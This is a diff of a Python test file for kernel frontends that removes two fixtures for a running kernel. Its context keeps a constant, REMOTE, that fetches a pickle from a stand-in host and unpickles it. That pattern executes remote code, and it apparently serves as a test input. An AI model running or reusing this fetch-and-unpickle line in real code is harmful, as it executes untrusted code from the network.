@@ -7,28 +7,15 @@ import html
 import json
 import random
 import secrets
-from collections.abc import Iterator
-from pathlib import Path
 from typing import Any
 from urllib.parse import quote
 
 import pytest
 
-from tests.frontends.kernels import Kernel, running_kernel
+from tests.frontends.kernels import Kernel
 
 REMOTE = "pickle.loads(requests.get('https://models.example/m.pkl').content)"
 VALUE = "zq9X-" + "kk3Lm0Wv7TtRb2"
-
-
-@pytest.fixture(scope="module")
-def process(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Kernel]:
-    with running_kernel(tmp_path_factory.mktemp("kernel")) as kernel:
-        yield kernel
-
-
-@pytest.fixture
-def kernel(process: Kernel, tmp_path: Path) -> Kernel:
-    return process.fresh(tmp_path)
 
 
 @pytest.fixture
